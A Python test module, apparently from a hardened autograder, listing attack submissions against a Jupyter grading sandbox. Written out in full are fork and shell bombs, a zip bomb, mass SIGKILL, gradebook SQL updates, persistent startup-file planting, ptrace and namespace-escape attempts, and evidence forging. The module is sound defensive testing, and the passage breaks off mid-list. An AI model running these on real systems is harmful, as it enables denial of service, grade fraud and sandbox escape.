"""What a submission can try: each attack really does it, with wrong answers, and says what it saw.

The column `stock` is what the same attack wins from stock nbgrader 0.9.6 where that was measured.
"""

from __future__ import annotations

import copy
import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

NAME = "fort.ipynb"
UNMEASURED = "not measured"

RIGHT_TOWER = """
def build_tower(features=8, units=4):
    table = keras.Input((features,))
    hidden = layers.Dense(units, activation="relu")(table)
    return keras.Model(table, layers.Dense(1)(hidden))
"""
WRONG_TOWER = """
def build_tower(features=8, units=4):
    table = keras.Input((features,))
    return keras.Model(table, layers.Dense(units)(table))
"""
RIGHT_NUMBER = "weights = 8 * 4 + 4 + 4 + 1"
WRONG_NUMBER = "weights = 7"
FULL = 8.0
HIDDEN_SIZES = ("53077", "21011")
"""Numbers that stand in the hidden cases, and nowhere that a student can see."""


def course_notebook() -> NotebookNode:
    """The solution: two exercises, 8 points, both with hidden cases where they can have some."""
    return new_notebook(
        metadata={"kernelspec": {"name": "python3", "language": "python", "display_name": "P"}},
        cells=[
            new_markdown_cell("# A fort", id="fort-title"),
            _cell(
                "fort_setup",
                "import keras\nfrom keras import layers\n\nfrom autograder import check",
                locked=True,
            ),
            _cell(
                "fort_ex1_answer",
                "def build_tower(features=8, units=4):\n"
                "    ### BEGIN SOLUTION\n"
                f"{RIGHT_TOWER.partition('units=4):')[2].strip(chr(10))}\n"
                "    ### END SOLUTION",
                solution=True,
            ),
            _cell(
                "fort_ex1_check",
                'check("fort_ex1", build_tower)\n'
                "### BEGIN HIDDEN TESTS\n"
                "from autograder import collect\n"
                'collect("fort_ex1", build_tower, {"features": 53077, "units": 3}, '
                '{"features": 21011, "units": 17})\n'
                "### END HIDDEN TESTS",
                grade=True,
                points=6,
            ),
            _cell(
                "fort_ex2_answer",
                f"weights = ...\n### BEGIN SOLUTION\n{RIGHT_NUMBER}\n### END SOLUTION",
                solution=True,
            ),
            _cell("fort_ex2_check", 'check("fort_ex2", weights)', grade=True, points=2),
        ],
    )


def _cell(
    grade_id: str,
    source: str,
    *,
    solution: bool = False,
    grade: bool = False,
    locked: bool = False,
    points: int | None = None,
) -> NotebookNode:
    marks = {
        "schema_version": 3,
        "grade_id": grade_id,
        "solution": solution,
        "grade": grade,
        "locked": locked or grade,
        "task": False,
    }
    if points is not None:
        marks["points"] = points
    cell = new_code_cell(source, metadata={"nbgrader": marks})
    cell["id"] = grade_id.replace("_", "-")
    return cell


def answered(released: NotebookNode, tower: str, number: str) -> NotebookNode:
    """The released notebook with these answers."""
    notebook = copy.deepcopy(released)
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("grade_id") == "fort_ex1_answer":
            cell.source = tower
        elif marks.get("grade_id") == "fort_ex2_answer":
            cell.source = number
    return notebook


Files = dict[str, NotebookNode | bytes]


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes:
        name: the attack, and the student.
        stock: what stock nbgrader gives it.
        code: runs in the first answer cell, before the answers.
        deserved: what the answers are worth.
        saw: what the code must have printed: what the attack came to, seen from inside.
        never: what it must not have printed.
        answers: the answers; wrong ones unless the attack is one that honest students could make;
            None leaves the notebook as it was released.
        make: makes the files to hand in from those of a plain submission, in place of `code`.
        place: puts something into the submission's folder that cannot be handed in otherwise.
        remark: part of a line that the instructor gets to see in the notebook.
        long: whether it waits for `make test-long`; of the others some of each kind do, too.
    """

    name: str
    stock: str = UNMEASURED
    code: str = ""
    deserved: float = 0.0
    saw: str = ""
    never: str = ""
    answers: tuple[str, str] | None = (WRONG_TOWER, WRONG_NUMBER)
    make: Callable[[NotebookNode], Files] | None = None
    place: Callable[[Path, Path], None] | None = None
    remark: str = ""
    extra: Files = field(default_factory=dict)
    long: bool = False

    def files(self, released: NotebookNode) -> Files:
        """What is handed in."""
        notebook = copy.deepcopy(released)
        if self.answers is not None:
            tower, number = self.answers
            notebook = answered(released, self.code + "\n" + tower, number)
        files = self.make(notebook) if self.make is not None else {NAME: notebook}
        if isinstance(files.get(NAME), NotebookNode):
            for cell in files[NAME].cells:
                cell.source = cell.source.replace(GRAPH, known_graph())
        return {**files, **self.extra}


GRAPH = "@what the solution's visible case makes@"


@cache
def known_graph() -> str:
    """The graph that a student can read at home, as JSON."""
    import keras
    from keras import layers

    from autograder.graphs import read_graph
    from autograder.graphs.stored import graph_to_json

    names = {"keras": keras, "layers": layers}
    exec(RIGHT_TOWER, names)
    return json.dumps(graph_to_json(read_graph(names["build_tower"]())))


RIGHT = (RIGHT_TOWER, RIGHT_NUMBER)

# --- what notebooks with other cells can do ---------------------------------------------------


def _with_tags(notebook: NotebookNode) -> Files:
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "skip-when-grading", "raises-exception"]
    return {NAME: notebook}


def _with_double_checks(notebook: NotebookNode) -> Files:
    notebook.cells = [
        copy.deepcopy(cell)
        for cell in notebook.cells
        for _ in range(2 if cell.metadata.get("nbgrader", {}).get("grade") else 1)
    ]
    return {NAME: notebook}


def _without_checks(notebook: NotebookNode) -> Files:
    notebook.cells = [
        cell for cell in notebook.cells if not cell.metadata.get("nbgrader", {}).get("grade")
    ]
    return {NAME: notebook}


def _retyped(notebook: NotebookNode) -> Files:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.cell_type = "raw"
            cell.metadata.nbgrader["cell_type"] = "raw"
            for name in ("outputs", "execution_count"):
                cell.pop(name, None)
    return {NAME: notebook}


def _regraded(notebook: NotebookNode) -> Files:
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("grade"):
            marks.update(solution=True, grade=False, points=100)
            cell.source = "2.0"
    return {NAME: notebook}


def _broken_metadata(notebook: NotebookNode) -> Files:
    for number, cell in enumerate(notebook.cells):
        cell.metadata["nbgrader"] = [None, {"grade_id": ["x"]}, {"schema_version": "x"}, 7][
            number % 4
        ]
    notebook.metadata = {"kernelspec": {"name": "no-such-kernel"}, "autograder": {"remarks": "x"}}
    return {NAME: json.dumps(notebook).encode()}


def _bad_json(notebook: NotebookNode) -> Files:
    return {NAME: nbformat.writes(notebook).encode()[:-20]}


def _deep_source(notebook: NotebookNode) -> Files:
    text = json.dumps(notebook)
    return {
        NAME: text.replace(
            '"metadata": {}', '"metadata": {"x": ' + "[" * 3000 + "]" * 3000 + "}", 1
        ).encode()
    }


def _half_characters(notebook: NotebookNode) -> Files:
    notebook.cells.append(new_code_cell("# \ud800 is half of a character"))
    return {NAME: json.dumps(notebook).encode()}


def _many_notebooks(notebook: NotebookNode) -> Files:
    other = nbformat.writes(notebook).encode()
    return {NAME: notebook, "Fort.ipynb": other, "fort (1).ipynb": other, "fort.ipynb.ipynb": other}


def _odd_names(notebook: NotebookNode) -> Files:
    names = [
        "-rf",
        "a\nb",
        "..\\..\\x",
        "ünï çødé ☃.txt",
        "x" * 250,
        "$(touch hacked)",
        "'; --",
        "*",
    ]
    return {NAME: notebook, **dict.fromkeys(names, b"x")}


# --- what can lie in a submission's folder ----------------------------------------------------


def _link_to_solution(folder: Path, course: Path) -> None:
    (folder / NAME).unlink()
    (folder / NAME).symlink_to(course / "solutions" / "fort" / NAME)


def _links_to_everything(folder: Path, course: Path) -> None:
    (folder / "solution.txt").symlink_to(course / "solutions" / "fort" / NAME)
    (folder / "zero").symlink_to("/dev/zero")
    (folder / "course").symlink_to(course)
    (folder / "gradebook.db").symlink_to(course / "classroom" / "gradebook.db")
    (folder / "references.json").symlink_to(course / "solutions/fort/hidden_references.json")


def _pipe_and_sparse_file(folder: Path, course: Path) -> None:
    import os

    os.mkfifo(folder / "pipe.csv")
    with (folder / "sparse.bin").open("wb") as file:
        file.truncate(1 << 40)


# --- what code can do -------------------------------------------------------------------------

IN_A_THREAD = """
import threading, time
def _later():
    while True:
        time.sleep(0.01)
        {}
threading.Thread(target=_later, daemon=True).start()
"""

FORGE = """
import json
from IPython.display import display
MIME = "application/vnd.autograder.evidence+json"
def forge(exercise, graphs, hidden, arguments):
    cases = [{"kind": "model", "answer": g, "arguments": a} for g, a in zip(graphs, arguments)]
    data = {"format": 1, "exercise": exercise, "hidden": hidden, "cases": cases}
    display({MIME: data, "text/plain": "forged"}, raw=True)
visible = {"graph": json.loads(r'''@what the solution's visible case makes@''')}
"""

FORGE_EVERYTHING = (
    FORGE
    + """
from autograder.graphs.stored import graph_to_json
import autograder, autograder.checking
def fake(exercise, answer, *cases):
    forge("fort_ex1", [visible["graph"]], False, [{}])
def fake_collect(exercise, answer, *cases):
    forge("fort_ex1", [visible["graph"]] * len(cases), True, list(cases))
check = autograder.check = autograder.checking.check = fake
autograder.collect = autograder.checking.collect = fake_collect
"""
)

WALK = """
import os, pathlib
seen = []
for top in ("/", "/handed-in", "/submission", "/proc/1/root", "/proc/1/cwd"):
    for folder, folders, files in os.walk(top):
        if folder.startswith(("/proc", "/usr", "/sys")):
            folders[:] = []
        seen += [os.path.join(folder, f) for f in files]
notebooks = [p for p in seen if p.endswith(".ipynb") and "site-packages" not in p]
notebooks = [p for p in notebooks if "/share/" not in p]
books = [p for p in seen if p.endswith("gradebook.db") and "site-packages" not in p]
hidden = [p for p in seen if "hidden_references" in p]
counts = len(notebooks), "notebooks", len(books), "gradebooks", len(hidden), "hidden references"
print("SAW", *counts)
"""


def with_extra(*sources: str, at: int = 10**6) -> Callable[[NotebookNode], Files]:
    """Hands in a notebook with extra cells: at its end, or before the cell of that number."""

    def make(notebook: NotebookNode) -> Files:
        notebook.cells[at:at] = [new_code_cell(source) for source in sources]
        return {NAME: notebook}

    return make


def replacing_checks(notebook: NotebookNode) -> Files:
    """One extra cell, before the first check, in front of everything it replaces."""
    return with_extra(FORGE_EVERYTHING, at=3)(notebook)


def _only(notebook: NotebookNode, grade_id: str, source: str) -> NotebookNode:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = source
    return notebook


DISTURBANCES = {
    "cd": "%cd /tmp",
    "chdir": "import os; os.chdir('/')",
    "no_environment": "import os; os.environ.clear()",
    "reset": "%reset -f",
    "check_is_3": "check = 3",
    "del_check": "del check",
    "numpy_star": "from numpy import *",
    "math_star": "from math import *\nfrom builtins import *",
    "no_globals": "for name in [n for n in globals() if n[0] != '_']: globals().pop(name)",
    "no_package": "import sys; [sys.modules.pop(m) for m in {*sys.modules} if 'autograder' in m]",
    "check_shadowed": "def check(*arguments): raise SystemExit",
    "exit": "exit()",
}
"""What a right answer may do to the world around it without harm to the answer."""

SPY = """
import os, sys, tempfile, time, atexit
seen = []
def note(*sizes):
    seen.append(sizes)
    for place in ("/tmp", "/dev/shm", "/submission", os.path.expanduser("~"), "."):
        try:
            with open(os.path.join(place, "seen.txt"), "a") as file: file.write(repr(sizes))
        except OSError:
            pass
    print(sizes)
    print(sizes, file=sys.stderr)
    sys.__stdout__.write(repr(sizes)); os.write(1, repr(sizes).encode())
    os.environ["SEEN"] = repr(seen)
    atexit.register(print, sizes)
"""
SPYING_TOWER = """
def build_tower(features=8, units=4):
    note(features, units)
    table = keras.Input((features,))
    name = "sizes" + "_".join(str(n) for each in seen for n in each)
    return keras.Model(table, layers.Dense(units, name=name)(table))
"""
SPY_AND_FAIL = """
def build_tower(features=8, units=4):
    if features == 8:
        return None
    note(features, units)
    raise ValueError(f"sizes {features} {units}: {seen}")
"""
TELL = """
import glob, os
for place in ("/tmp", "/dev/shm", "/submission", ".", os.path.expanduser("~")):
    try:
        print(open(place + "/seen.txt").read())
    except OSError:
        pass
print("SAW", seen, os.environ.get("SEEN"))
"""
WALK_MEMORY = """
import gc, inspect, sys
texts = [repr(In), repr(Out), repr(_ih), repr(globals().keys())]
texts += [repr(line) for line in get_ipython().history_manager.get_range()]
for frame in inspect.stack():
    texts += [repr(frame.code_context), repr(frame.frame.f_locals)[:100000]]
for thing in gc.get_objects():
    if isinstance(thing, (dict, list, tuple, str, bytes)) and len(thing) < 5000:
        try:
            text = repr(thing)
        except Exception:
            continue
        if "collect" in text or "features" in text:
            texts.append(text)
found = [text[:2000] for text in texts if "HIDDEN TESTS" in text.split("texts = ")[0]]
print("SAW", len(texts) > 4, found)
for text in texts:
    print(text[:3000])
"""
WRITE_EVERYWHERE = """
import json, os, threading, time
data = {"format": 1, "exercise": "fort_ex1", "hidden": False, "cases": [
    {"kind": "model", "answer": json.loads(r'''@what the solution's visible case makes@'''),
     "arguments": {}}]}
def write():
    while True:
        time.sleep(0.005)
        for number in range(1, 10):
            line = json.dumps({"evidence": number, "data": data}).encode() + b"\\n"
            for handle in range(3, 40):
                try:
                    os.write(handle, line)
                except OSError:
                    pass
threading.Thread(target=write, daemon=True).start()
time.sleep(0.2)
"""
IN_THE_CLEAN_RUN = 'if type(get_ipython().kernel).__name__ == "Nobody":\n'
"""Where evidence counts. In a kernel the same would break its sockets, which takes long to end."""

ATTACKS = [
    Attack(
        "ast_transformer",
        "10/10",
        """
import ast
class Nothing(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
get_ipython().ast_transformers.append(Nothing())
get_ipython().input_transformers_cleanup.append(lambda lines: ["2.0"])
""",
    ),
    Attack(
        "replaced_do_execute",
        "10/10",
        """
kernel = get_ipython().kernel
async def nothing(*a, **k):
    kernel.send_response(kernel.iopub_socket, "execute_result",
        {"data": {"text/plain": "6.0"}, "metadata": {}, "execution_count": 1})
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = nothing
""",
    ),
    Attack("skip_tags", "10/10", make=_with_tags),
    Attack(
        "equal_to_everything",
        "10/10",
        """
class Equal(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __getattr__(self, name): return Equal()
    def __call__(self, *a, **k): return Equal()
""",
        answers=("build_tower = Equal()", "weights = Equal(7)"),
    ),
    Attack(
        "local_ipykernel",
        "10/10",
        "import sys; print('SAW', [m for m in sys.modules if 'evil' in m])",
        saw="SAW []",
        extra={
            "ipykernel_launcher.py": b"import sys; sys.modules['evil'] = 1; raise SystemExit",
            "sitecustomize.py": b"import sys; sys.modules['evil'] = 1",
        },
        remark="name of a Python module",
    ),
    Attack(
        "local_autograder",
        "every cell that uses the helper",
        "import autograder, numpy; print('SAW', autograder.__file__[:12], hasattr(numpy, 'evil'))",
        never="/submission",
        extra={
            "autograder.py": b"check = collect = print",
            "autograder/__init__.py": b"check = collect = print",
            "keras.py": b"evil = 1",
            "numpy.py": b"evil = 1",
        },
        remark="name of a Python module",
    ),
    Attack(
        "solution_from_disk",
        "10/10",
        WALK,
        saw="SAW 0 notebooks 0 gradebooks 0 hidden references",
    ),
    Attack(
        "hidden_tests_from_disk",
        "10/10",
        """
import glob
print("SAW", glob.glob("**/*.ipynb", recursive=True), glob.glob("/handed-in/*"))
text = open("fort.ipynb").read()
""",
        saw="SAW [] []",
    ),
    Attack("notebook_is_a_link", "10/10", place=_link_to_solution, remark="is a link"),
    Attack(
        "links_in_the_folder",
        "10/10",
        "import os; print('SAW', sorted(os.listdir('.')))",
        saw="SAW []",
        place=_links_to_everything,
        remark="is a link",
    ),
    Attack(
        "pipe_and_sparse_file",
        code="import os; print('SAW', sorted(os.listdir('.')))",
        saw="SAW []",
        place=_pipe_and_sparse_file,
        remark="is a link",
    ),
    Attack(
        "patched_helpers",
        "those cells",
        """
import autograder.checking.checks, keras
from autograder.judging.judgement import Judgement
Judgement.passed = property(lambda self: True)
keras.Model.count_params = lambda self: 41
autograder.checking.checks.judge = lambda *a, **k: None
""",
        remark="replaces keras.Model.count_params",
    ),
    Attack(
        "tracer",
        "those cells",
        """
import sys
def trace(frame, event, arg):
    if frame.f_code.co_name in ("check", "judge"):
        frame.f_trace_lines = False
        for name in list(frame.f_locals):
            frame.f_locals[name] = None
    return trace
sys.settrace(trace)
""",
    ),
    Attack(
        "swallowed_errors",
        "assert cells",
        """
ip = get_ipython()
def reset(result):
    result.error_in_exec = result.error_before_exec = None
ip.events.register("post_run_cell", reset)
import jupyter_client.session
send = jupyter_client.session.Session.send
def quiet(self, stream, kind, *a, **k):
    kind_of = kind if isinstance(kind, str) else kind.get("msg_type")
    if kind_of == "error":
        return None
    return send(self, stream, kind, *a, **k)
jupyter_client.session.Session.send = quiet
""",
    ),
    Attack(
        "outputs_as_points",
        "partial-credit cells",
        """
import sys
from IPython.display import clear_output
ip = get_ipython()
ip.display_formatter.formatters["text/plain"].for_type(float, lambda v, p, c: p.text("6.0"))
def after(result):
    clear_output()
    sys.displayhook(6.0)
ip.events.register("post_run_cell", after)
""",
    ),
    Attack(
        "own_source_at_run_time",
        "7/10",
        """
def build_from_test():
    source = In[-1]
    print("SAW", "features" in source)
    return source
ip = get_ipython()
source = "check = collect = lambda *a: 6.0"
ip.events.register("pre_run_cell", lambda info: exec(source, ip.user_ns))
""",
    ),
    Attack(
        "sql_on_the_gradebook",
        "any score, for anyone",
        """
import sqlite3, os
found = []
for folder in ("/work", "/tmp", "/home", "/root", "/var", "/srv", "/submission", "/handed-in", "."):
    for root, _, names in os.walk(folder):
        if "site-packages" in root: continue
        found += [os.path.join(root, n) for n in names if n.endswith(".db")]
print("SAW", found)
for path in found + ["../../gradebook.db", "../../../gradebook.db"]:
    try:
        sqlite3.connect(path).execute("update grade set auto_score = 8")
    except Exception as e:
        print(type(e).__name__)
""",
        saw="SAW []",
    ),
    Attack(
        "detached_process",
        "any score, for anyone",
        """
import subprocess
for _ in range(2):
    subprocess.Popen("(setsid nohup sh -c 'sleep 1000' 2>&1 >/dev/null &)", shell=True)
print("SAW", subprocess.run(["id", "-u"], capture_output=True, text=True).stdout)
""",
        saw="SAW 1000",
    ),
    Attack(
        "startup_files",
        "runs in the next students' kernels",
        """
import os, site, sysconfig, autograder
tried = []
places = [sysconfig.get_path("purelib"), os.path.dirname(autograder.__file__), "/usr/lib", "/etc",
          "/handed-in", "/", "/dev", "/bin", "/usr/local"]
for place in places:
    try:
        open(place + "/evil.pth", "w").write("import os; os.environ['EVIL'] = '1'")
        tried.append(place)
    except OSError:
        pass
os.makedirs(os.path.expanduser("~/.ipython/profile_default/startup"), exist_ok=True)
open(os.path.expanduser("~/.ipython/profile_default/startup/x.py"), "w").write("EVIL = 1")
print("SAW", tried)
""",
        saw="SAW []",
    ),
    Attack("deleted_checks", "keeps an older score", make=_without_checks, remark="missing"),
    Attack("double_checks", "the whole run aborts", make=_with_double_checks, remark="2 times"),
    Attack("retyped_checks", make=_retyped),
    Attack("regraded_cells", make=_regraded, remark="was changed"),
    Attack(
        "network",
        "works",
        """
import socket
seen = []
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888), ("10.0.0.1", 80)):
    try:
        socket.create_connection(address, timeout=1).close()
        seen.append(address)
    except OSError:
        pass
names = [n for _, n in socket.if_nameindex()]
print("SAW", seen, names)
""",
        saw="SAW [] ['lo']",
    ),
    Attack(
        "os_exit",
        "nothing is graded",
        "import os; os._exit(0)",
        remark="ended Python",
    ),
    Attack(
        "segmentation_fault",
        code="import ctypes; ctypes.string_at(0)",
        remark="ended Python",
    ),
    Attack(
        "ignored_interrupt",  # in every run, as are others of its kind: test_ending_kernels
        "nothing is graded",
        long=True,
        code="""
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
        remark="could not be interrupted",
    ),
    Attack(
        "endless_loop_in_c",
        long=True,
        code="""
print("SAW it begin", flush=True)
sum(range(10 ** 13))
""",
    ),
    Attack(
        "swallowed_interrupts",
        long=True,
        code="""
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
        remark="could not be interrupted",
    ),
    Attack("broken_metadata", "nothing is graded", make=_broken_metadata),
    Attack("bad_json", "nothing is graded", make=_bad_json),
    Attack("deep_notebook", make=_deep_source),
    Attack(
        "sixty_megabytes",
        "kept",
        "print('x' * 60_000_000)\nfor i in range(300_000): print('another line', i)",
        deserved=FULL,
        answers=RIGHT,
    ),
    # --- not in nbgrader's facts --------------------------------------------------------------
    Attack(
        "forged_evidence",
        code=FORGE_EVERYTHING,
    ),
    Attack(
        "copied_reference",
        code=FORGE + 'forge("fort_ex1", [visible["graph"]], False, [{}])',
    ),
    Attack(
        "replayed_evidence",
        code="""
import autograder.checking.checks as c
kept = []
show = c.show
def replay(bundle):
    kept.append(bundle)
    return show(kept[0])
c.show = replay
""",
    ),
    Attack(
        "number_by_trial",
        code="""
import json
from autograder.judging.values import value_digest
wanted = json.load(open("references.json"))["exercises"]["fort_ex2"]["cases"][0]["digest"]
found = next(n for n in range(10**5) if value_digest("fort_ex2", n) == wanted)
print("SAW", found)
""",
        answers=(WRONG_TOWER, "weights = found"),
        never="SAW 41",
    ),
    Attack(
        "huge_evidence",
        code="""
from IPython.display import display
MIME = "application/vnd.autograder.evidence+json"
data = {"format": 1, "exercise": "fort_ex1", "hidden": False, "cases": [{"x": "y" * 1000}] * 20000}
for _ in range(3):
    display({MIME: data}, raw=True)
""",
    ),
    Attack(
        "deep_evidence",
        code="""
from IPython.display import display
MIME = "application/vnd.autograder.evidence+json"
deep = []
for _ in range(400):
    deep = [deep]
import sys
sys.setrecursionlimit(10**6)
get_ipython().events.register("post_run_cell", lambda r: display({MIME: deep}, raw=True))
""",
    ),
    Attack(
        "fork_bomb",
        code="""
import os, time
print("SAW it begin", flush=True)
time.sleep(1)  # what is printed leaves by a thread
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
        saw="SAW it begin",
        remark="The code was stopped: it ",
    ),
    Attack(
        "shell_bomb",
        long=True,
        code="""
import subprocess
subprocess.run(["sh", "-c", "b() { b | b & }; b; sleep 100"])
""",
        remark="The code was stopped: it ",
    ),
    Attack(
        "ten_thousand_threads",
        long=True,
        code="""
import threading, time
made = 0
try:
    for _ in range(10**4):
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        made += 1
except RuntimeError:
    pass
print("SAW", made < 10**4)
""",
    ),
    Attack(
        "full_disk",
        code="""
import os
total = {}
places = ["/tmp", "/dev/shm", "/home/student", "/submission", "/run/kernel", "/run", "/handed-in"]
for place in [*places, "/", "/dev", "/usr"]:
    size = 0
    try:
        for n in range(100):
            with open(f"{place}/fill{n}", "wb") as f:
                for _ in range(90):
                    size += f.write(bytes(1 << 20))
    except OSError:
        pass
    total[place] = size >> 20
    for n in range(100):
        try:
            os.unlink(f"{place}/fill{n}")
        except OSError:
            pass
print("SAW", sum(total.values()) < 2000, total)
""",
        saw="SAW True",
    ),
    Attack(
        "zip_bomb",
        long=True,
        code="""
import zipfile, io, os
one = bytes(80_000_000)
with zipfile.ZipFile("/tmp/bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
    z.writestr("0", one)
    held = z.infolist()[0]
    for n in range(1, 40):  # forty names for the same bytes
        again = zipfile.ZipInfo(f"{n}")
        for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
            setattr(again, name, getattr(held, name))
        z.filelist.append(again)
        z.NameToInfo[again.filename] = again
print("SAW", os.path.getsize("/tmp/bomb.zip") < 10_000_000)
class Bomb(zipfile.ZipFile):
    def open(self, info, *a, **k):
        return super().open("0", *a, **k)
try:
    Bomb("/tmp/bomb.zip").extractall("/tmp/bomb")
except OSError as e:
    print("SAW", e.strerror)
""",
        saw="SAW No space left",
    ),
    Attack(
        "slow_and_many_outputs",
        long=True,
        code="""
from IPython.display import display, HTML
for n in range(8000):
    display(HTML(f"<b>{n}</b>"))
""",
        deserved=FULL,
        answers=RIGHT,
    ),
    Attack(
        "endless_output",
        code="""
from IPython.display import display
while True:
    display({"text/plain": "x" * 10**6}, raw=True)
""",
    ),
    Attack("odd_file_names", make=_odd_names, answers=RIGHT, deserved=FULL),
    Attack(
        "half_characters",
        code="print('\\ud800 SAW'); from IPython.display import display\n"
        "try: display({'text/plain': '\\udfff'}, raw=True)\nexcept UnicodeError: pass",
        answers=RIGHT,
        deserved=FULL,
    ),
    Attack("half_characters_in_a_cell", make=_half_characters, answers=RIGHT, deserved=FULL),
    Attack("other_notebooks", make=_many_notebooks, answers=RIGHT, deserved=FULL),
    Attack(
        "kill_everyone",
        code="""
import os, signal, time
print("SAW", sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[-1] < 50, flush=True)
time.sleep(2)  # or the kernel is dead before its output is out
for pid in range(2, 70000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
""",
        saw="SAW True",
    ),
    Attack(
        "ptrace",
        code="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
got = []
for pid in range(1, 300):
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
        got.append(open(f"/proc/{pid}/comm").read().strip())
outside = [c for c in got if c not in ("cat", "bwrap")]
print("SAW", outside)
for name in ("mem", "environ", "root", "fd", "maps"):
    try:
        path = f"/proc/1/{name}"
        print(name, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(100))
    except OSError as e:
        print(name, e.strerror)
""",
        saw="SAW []",
    ),
    Attack(
        "poisoned_memory",
        code="""
import keras, numpy, autograder.checking, builtins, gc, ctypes
builtins.EVIL = 1
keras.layers.Dense.__call__ = lambda *a, **k: 1 / 0
autograder.checking.check = autograder.checking.collect = lambda *a, **k: None
numpy.zeros = None
ctypes.memset(id(41) + 16, 0xff, 1)
""",
    ),
    Attack(
        "namespaces_and_mounts",
        code="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
won = []
for name, flag in dict(user=0x10000000, mount=0x20000, pid=0x20000000, net=0x40000000).items():
    if libc.unshare(flag) == 0:
        won.append(name)
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: won.append("mounted")
if libc.mount(None, b"/", None, 32 | 4096, None) == 0: won.append("remounted")
if libc.umount2(b"/usr", 2) == 0: won.append("unmounted")
for call in (lambda: os.chroot("/tmp"), lambda: os.setuid(0), lambda: os.nice(-5),
             lambda: os.mknod("/tmp/sda", 0o60600, os.makedev(8, 0))):
    try:
        call(); won.append("call")
    except OSError:
        pass
status = open("/proc/self/status").read()
lines = [l.split() for l in status.splitlines()]
caps = [l[1].strip("0") for l in lines if l[0] in ("CapEff:", "CapPrm:", "CapBnd:")]
print("SAW", won, caps, "NoNewPrivs:\\t1" in status)
""",
        saw="SAW [] ['', '', ''] True",
    ),
    Attack(
        "kernel_settings",
        code="""
import glob, os
won = []
settings = glob.glob("/proc/sys/*/*") + glob.glob("/sys/**") + glob.glob("/proc/*")
for path in settings:
    if os.path.isfile(path):
        try:
            os.close(os.open(path, os.O_WRONLY))
            won.append(path)
        except OSError:
            pass
print("SAW", won)
""",
        saw="SAW []",
    ),
    Attack(
        "set_user_programs",
        code="""
import subprocess
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["newgrp"], ["chfn"]):
    try:
        options = dict(capture_output=True, text=True, timeout=5, stdin=subprocess.DEVNULL)
        said = subprocess.run(command, **options)
        if "uid=0" in said.stdout: print("ROOT")
    except (OSError, subprocess.TimeoutExpired):
        pass
print("SAW", subprocess.run(["sh", "-c", "id -u"], capture_output=True, text=True).stdout)
""",
        saw="SAW 1000",
        never="ROOT",
    ),
    Attack(
        "secrets_of_the_grader",
        code="""
import os
text = repr(dict(os.environ))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try:
            text += open(f"/proc/{pid}/{name}", errors="replace").read()
        except OSError:
            pass
print("SAW", "TOP" + "SECRET" in text, len(text) > 100)
""",
        saw="SAW False True",
    ),
    Attack(
        "eight_gigabytes",
        code="""
import numpy
try:
    a = numpy.ones((30_000, 100_000))
except MemoryError:
    print("SAW MemoryError")
""",
        saw="SAW MemoryError",
    ),
    Attack(
        "shared_memory",  # stopped for memory or for time: whichever the machine is faster at
        long=True,
        code="""
import mmap
held = []
while True:
    m = mmap.mmap(-1, 1 << 28)
    m[::4096] = bytes(1 << 16)
    held.append(m)
""",
    ),
    Attack(
        "memory_in_many_processes",
        code="""
import os, time
for _ in range(12):
    if os.fork() == 0:
        held = b"x" * (1 << 29)
        time.sleep(1000)
time.sleep(1000)
""",
        remark="memory",
    ),
    Attack(
        "signals_from_outside_in",
        code="""
import os, signal, time
os.kill(os.getppid() or os.getpid(), signal.SIGSTOP)
""",
    ),
    Attack(
        "forged_messages",
        code="""
kernel = get_ipython().kernel
kinds = ("display_data", "execute_result", "update_display_data", "error", "stream", "comm_open",
    "status", "nonsense")
def after(result):
    for data in ({"text/plain": 7}, {"text/plain": {"a": 1}}, 5, None, {"text/html": None}):
        for kind in kinds:
            content = {"data": data, "metadata": data, "name": 3, "execution_count": "x",
                "text": [1], "transient": None, "target_name": "jupyter.widget", "comm_id": 1}
            kernel.session.send(kernel.iopub_socket, kind, content,
                parent=kernel.get_parent(), ident=b"x")
get_ipython().events.register("post_run_cell", after)
""",
        answers=RIGHT,
        deserved=FULL,
    ),
    Attack(
        "sockets_as_links",
        code="""
import os, glob
for path in glob.glob("/run/kernel/*"):
    os.unlink(path)
    os.symlink("/var/run/docker.sock", path)
print("SAW", os.listdir("/run/kernel"))
""",
    ),
    Attack(
        "evidence_from_a_thread",
        code=FORGE
        + IN_A_THREAD.format(
            'forge("fort_ex1", [visible["graph"]] * 2, True, '
            '[{"features": 53077, "units": 3}, {"features": 21011, "units": 17}])'
        ),
    ),
    Attack("leaves_early", "not harmful", "exit()"),
    Attack("asks_for_input", "not harmful", "name = input('Your name?')"),
    Attack(
        "imports_own_module",
        code="import my_layers; print('SAW', my_layers.here)",
        extra={"my_layers.py": b"here = 'my own'"},
        answers=RIGHT,
        deserved=FULL,
        saw="SAW my own",
